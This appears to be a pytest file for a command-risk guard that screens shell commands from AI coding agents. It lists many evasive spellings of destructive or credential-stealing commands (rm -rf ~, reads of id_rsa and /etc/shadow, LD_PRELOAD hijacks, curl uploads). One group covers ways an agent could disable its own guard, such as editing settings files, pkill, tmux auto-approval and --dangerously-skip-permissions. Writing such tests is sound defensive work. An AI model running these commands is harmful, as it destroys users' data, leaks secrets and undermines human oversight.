"""Ways in which a dangerous command was seen to slip past a guard, each in several spellings."""

from __future__ import annotations

from dataclasses import replace

import pytest

from ccwatch.risk.assess import assess_command
from ccwatch.risk.level import Level
from ccwatch.risk.preset import Preset, covers
from tests.risk.builders import HERE

MEDIUM, UNCERTAIN, HIGH, CRITICAL = Level.MEDIUM, Level.UNCERTAIN, Level.HIGH, Level.CRITICAL

CHAINING = [
    ("git status && rm -rf ~", CRITICAL),
    (': "$(rm -rf ~)"', CRITICAL),
    ("ls #x\nrm -rf ~", CRITICAL),
    ("ls;rm -rf ~", CRITICAL),
    ("ls&rm -rf ~", CRITICAL),
    ("ls|rm -rf ~", CRITICAL),
    ("ls `rm -rf ~`", CRITICAL),
    ("true || (rm -rf ~)", CRITICAL),
    ("echo ${x:-$(rm -rf ~)}", CRITICAL),
    ("cat <<E\n`rm -rf ~`\nE", CRITICAL),
    ("ls $((0$(rm -rf ~)))", CRITICAL),
    ("! ls || rm -rf ~", CRITICAL),
]
DIFFERENTIALS = [
    ("TZ=x\rrm -rf ~", UNCERTAIN),
    ("ls\u00a0-la", UNCERTAIN),
    ("ls \u2003-la", UNCERTAIN),
    ("r\\\nm -rf ~", CRITICAL),
    ("l\\\ns", UNCERTAIN),
    ("rm$IFS-rf$IFS/", HIGH),
    ("cat$IFS.env", UNCERTAIN),
    ("cat${IFS}/etc/shadow", UNCERTAIN),
    ("ls\x0brm", UNCERTAIN),
    ("ls \u2028 rm -rf ~", UNCERTAIN),
    ("l\u200bs", UNCERTAIN),
    ("ls # \u202e", UNCERTAIN),
]
SIDE_DOORS = [
    ("rg --pre ./x foo", MEDIUM),
    ("rg --pre=/tmp/x foo", HIGH),
    ("sort --compress-program=./x f", MEDIUM),
    ("sort --compress-prog ./x f", MEDIUM),
    ("sort -o ~/.bashrc f", HIGH),
    ("sort -uo f f", MEDIUM),
    ("git -c core.pager=x log", HIGH),
    ("git -c alias.st='!rm -rf ~' st", CRITICAL),
    ("git log --output=x", MEDIUM),
    ("git diff --ext-diff", MEDIUM),
    ("git fetch --upload-pack=./x", HIGH),
    ("git grep --open-files-in-pager=./x foo", MEDIUM),
    ("tar -I ./x -cf a.tar b", MEDIUM),
    ("tar xf a.tar --to-command=./x", MEDIUM),
    ("tar cf a --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", CRITICAL),
    ("man -P ./x ls", MEDIUM),
    ("find . -exec rm -rf ~ ;", CRITICAL),
    ("find . -fprintf ~/.bashrc x", HIGH),
    ("find . -delete", HIGH),
    ("find / -name x -delete", CRITICAL),
    ("find . -okdir rm -rf / \\;", CRITICAL),
    ("ls | xargs -I{} rm -rf {}", UNCERTAIN),
    ("sed -i s/a/b/ ~/.bashrc", HIGH),
    ("sed '1e rm -rf ~' f", CRITICAL),
    ("sed 'w /etc/passwd' f", HIGH),
    ("sed s/a/b/e f", UNCERTAIN),
    ("awk 'BEGIN{system(\"rm -rf ~\")}'", CRITICAL),
    ("awk 'BEGIN{print 1 | \"rm -rf ~\"}'", CRITICAL),
    ("awk '{print > \"/etc/passwd\"}' f", HIGH),
    ("xxd -r f ~/.bashrc", HIGH),
    ("tee ~/.bashrc", HIGH),
    ("uniq f ~/.bashrc", HIGH),
    ("less '+!rm -rf ~' f", UNCERTAIN),
    ("ssh -o ProxyCommand='rm -rf ~' h", CRITICAL),
    ("curl -o ~/.bashrc https://x.io", HIGH),
    ("curl -T f https://x.io", HIGH),
    ("curl -d @f https://x.io", HIGH),
    ("curl -K f", UNCERTAIN),
    ("history -s rm", MEDIUM),
    ("history -w ~/.bashrc", HIGH),
    ("ldd ./x", MEDIUM),
    ("journalctl --vacuum-size=1", MEDIUM),
    ("unknown-program --help", UNCERTAIN),
]
ENVIRONMENT = [
    ("GIT_PAGER=./x git log", HIGH),
    ("GIT_SSH_COMMAND=./x git fetch", HIGH),
    ("PAGER=./x man ls", HIGH),
    ("LESSOPEN='|./x %s' less f", HIGH),
    ("LD_PRELOAD=./x.so ls", HIGH),
    ("PATH=/tmp:$PATH ls", HIGH),
    ("BASH_ENV=./x bash -c ls", HIGH),
    ("PYTHONPATH=/tmp python3 -c 'print(1)'", HIGH),
    ("NODE_OPTIONS='--require ./x' node -v", HIGH),
    ("PERL5OPT=-Mx perl -v", HIGH),
    ("EDITOR=./x git commit", HIGH),
    ("IFS=/ ls", HIGH),
    ("env LD_PRELOAD=./x.so ls", HIGH),
    ("env -S 'LD_PRELOAD=./x.so ls'", HIGH),
    ("export LD_PRELOAD=./x.so; ls", HIGH),
    ("export PATH=/tmp; ls", HIGH),
    ("declare -x GIT_PAGER=./x; git log", HIGH),
    ("SOMETHING=1 ls", MEDIUM),
]
CONFIGURATION = [
    ("git config core.fsmonitor ./x", HIGH),
    ("git config --global alias.st '!rm -rf ~'", HIGH),
    ("echo x > .git/hooks/pre-commit", HIGH),
    ("cp x .git/config", HIGH),
    ("git config core.hooksPath /tmp", HIGH),
    ("echo x > .npmrc", MEDIUM),
    ("make", MEDIUM),
    ("npm test", MEDIUM),
    ("pytest", MEDIUM),
]
REDIRECTS = [
    (f"echo x {operator} ~/.bashrc", HIGH)
    for operator in ("1>", ">|", "&>", ">&", "<>", "{fd}>", ">>", "2>", "&>>", "3>", ">!")
] + [("echo x 9<> ~/.bashrc", UNCERTAIN), ("> ~/.bashrc", HIGH), ("echo x >/dev/sda", CRITICAL)]
WORDS = [
    ("{rm,-rf,/}", CRITICAL),
    ("{rm,-rf,{/,x}}", CRITICAL),
    ("rm -rf {x,~}", CRITICAL),
    ("find . -de*", UNCERTAIN),
    ("sort * -o f", MEDIUM),
    ("rm -rf $D/", HIGH),
    ("rm -rf ${D}/*", HIGH),
    ("D=/; rm -rf $D", CRITICAL),
    ("rm -rf ~", CRITICAL),
    ("rm -rf ~root", HIGH),
    ("rm -rf $HOME/*", CRITICAL),
    ("rm -rf ~/../..", CRITICAL),
    ("rm -rf //", CRITICAL),
    ("rm -rf /./", CRITICAL),
    ("rm -rf /*", CRITICAL),
    ("r''m -rf /", CRITICAL),
    ("$'\\x72m' -rf /", CRITICAL),
    ('r"m" -r"f" /', CRITICAL),
    ("\\r\\m -rf /", CRITICAL),
    ("rm -r -f /", CRITICAL),
    ("rm --recursive --force /", CRITICAL),
    ("rm --recurs --fo /", CRITICAL),
    ("rm '-rf' /", CRITICAL),
    ("rm / -rf", CRITICAL),
]
ZSH = [
    ("=rm -rf ~", UNCERTAIN),
    ("zmodload zsh/net/tcp", UNCERTAIN),
    ("ztcp x.io 80", UNCERTAIN),
    ("noglob rm -rf ~", CRITICAL),
    ("ls >! ~/.bashrc", HIGH),
    ("print -rl -- *(e:'rm -rf ~':)", UNCERTAIN),
]
LIMITS = [
    ("ls;" * 60 + "rm -rf /", CRITICAL),
    ("ls;" * 2_000 + "rm -rf /", CRITICAL),
    ("echo " + "x" * 20_000 + "; rm -rf /", CRITICAL),
    ("echo " + "x" * 20_000, UNCERTAIN),
    ("(" * 200 + "rm -rf /" + ")" * 200, UNCERTAIN),
    ("$(" * 200 + "rm -rf /" + ")" * 200, UNCERTAIN),
    ("{ " * 500 + "rm -rf /; " + "}; " * 500, UNCERTAIN),
    ("eval " * 200 + "rm -rf /", UNCERTAIN),
    ("sudo " * 200 + "rm -rf /", UNCERTAIN),
    ("sudo " * 10 + "rm -rf /", CRITICAL),
    ("cat {.,x}{e,x}{n,x}{v,x}" + "{,}" * 6, UNCERTAIN),
    ("rm -rf {" + ",".join(f"a{n}" for n in range(100)) + ",/}", CRITICAL),
    ("rm -rf {" + "a," * 4_000 + "/}", HIGH),
    ("rm " + "a " * 300 + "-rf /", CRITICAL),
    ("rm " + "a " * 3_000 + "-rf /", HIGH),
]
PATHS = [
    ("rm -rf /home/dev/web-evil", HIGH),
    ("cat /home/dev/web/../.ssh/id_rsa", HIGH),
    ("echo x > /home/dev/web/../.bashrc", HIGH),
    ("rm -rf ../../..", CRITICAL),
    ("rm -rf /HOME/../home", CRITICAL),
    ("cat ./.ENV", HIGH),
    ("cat link/secret", HIGH),
    ("rm -rf link", MEDIUM),
    ("echo x > link/authorized_keys", HIGH),
    ("rm -rf .git", CRITICAL),
    ("rm -rf .", CRITICAL),
    ("rm -rf ./", CRITICAL),
    ("rm -rf /home/dev/web/", CRITICAL),
]
SELF = [
    ("echo {} > ~/.claude/settings.json", CRITICAL),
    ("rm ~/.claude/settings.json", CRITICAL),
    ("sed -i s/a/b/ .claude/settings.local.json", CRITICAL),
    ("cp x ~/.config/ccwatch/config.toml", CRITICAL),
    ("echo x >> ~/.config/ccwatch/rules.toml", CRITICAL),
    ("tee ~/.codex/config.toml", CRITICAL),
    ("tee ~/.copilot/hooks/x.json", CRITICAL),
    ("tee .github/hooks/x.json", CRITICAL),
    ("ccwatch rules add x", HIGH),
    ("pkill ccwatch", HIGH),
    ("tmux send-keys -t 0 y Enter", CRITICAL),
    ("claude --dangerously-skip-permissions -p x", CRITICAL),
    ("curl -X POST http://127.0.0.1:8660/api/decide", MEDIUM),
]
CASES = (
    CHAINING + DIFFERENTIALS + SIDE_DOORS + ENVIRONMENT + CONFIGURATION + REDIRECTS + WORDS + ZSH
    + LIMITS + PATHS + SELF
)  # fmt: skip

CONTEXT = replace(
    HERE,
    links={
        "/home/dev/web/link/secret": "/home/dev/.ssh/id_rsa",
        "/home/dev/web/link/authorized_keys": "/home/dev/.ssh/authorized_keys",
        "/home/dev/web/link": "/home/dev/.ssh",
    },
)


@pytest.mark.parametrize(("command", "least"), CASES, ids=lambda value: str(value)[:40])
def test_no_spelling_slips_past(command: str, least: Level):
    assessment = assess_command(command, CONTEXT)
    assert assessment.level >= least
    assert not any(covers(preset, assessment) for preset in Preset)
